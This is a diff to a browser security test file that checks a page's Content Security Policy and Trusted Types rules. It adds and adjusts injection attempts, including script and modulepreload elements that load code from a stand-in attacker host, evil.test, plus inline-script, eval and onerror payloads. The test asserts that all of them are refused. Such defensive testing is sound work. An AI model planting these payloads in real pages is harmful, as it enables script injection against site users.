@@ -32,7 +32,7 @@ it('every document comes with its own policy and headers, and runs no script but
     );
     expect(policy).not.toMatch(/unsafe-|\*|https?:/);
     expect(policy).toContain("frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
-    expect(policy).toContain("require-trusted-types-for 'script'");
+    expect(policy).toContain("trusted-types 'none'; require-trusted-types-for 'script'");
     expect(headers).toMatchObject({
       'cache-control': 'no-store',
       'cross-origin-opener-policy': 'same-origin',
@@ -125,10 +125,16 @@ function smuggle(): Promise<unknown> {
     fill(script);
     document.body.append(script);
   };
-  const trusted = (address: string) =>
+  const trusted = (address: string, policy: string) =>
     Reflect.get(globalThis, 'trustedTypes')
-      .createPolicy('evil', { createScriptURL: String })
+      .createPolicy(policy, { createScriptURL: String })
       .createScriptURL(address);
+  const preload = () => {
+    const link = document.createElement('link');
+    link.rel = 'modulepreload';
+    link.href = 'https://evil.test/x.js';
+    document.head.append(link);
+  };
   const attempts = [
     () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">'),
     () => addScript((script) => script.append('window.ran = 2')),
@@ -139,7 +145,9 @@ function smuggle(): Promise<unknown> {
     },
     () => Reflect.get(globalThis, 'eval')('window.ran = 4'),
     () => addScript((script) => script.setAttribute('src', 'https://evil.test/x.js')),
-    () => addScript((script) => script.setAttribute('src', trusted('https://evil.test/x.js'))),
+    () => addScript((script) => script.setAttribute('src', trusted('/x.js', 'evil'))),
+    () => addScript((script) => script.setAttribute('src', trusted('/x.js', 'speculation'))),
+    preload,
     () => {
       const frame = document.createElement('iframe');
       frame.src = 'https://evil.test/';
@@ -161,6 +169,8 @@ function smuggle(): Promise<unknown> {
   return Promise.all(inTheirOwnTasks);
 }
 
+const isTrustedTypes = (directive: string) => directive === 'trusted-types';
+
 it('what somebody could smuggle into a page does not run, leave, or frame it', async ({ context }) => {
   const page = await context.newPage();
   await openAs(page, ADMIN);
@@ -169,7 +179,11 @@ it('what somebody could smuggle into a page does not run, leave, or frame it', a
   // A violation is told in a task of its own.
   await expect
     .poll(async () => [...new Set(await kept('refused'))].sort())
-    .toEqual(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem']);
+    .toEqual([
+      ...['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'],
+      'trusted-types',
+    ]);
+  await expect.poll(async () => (await kept('refused')).filter(isTrustedTypes).length).toBe(2);
   expect(await kept('ran')).toBeUndefined();
 });
 
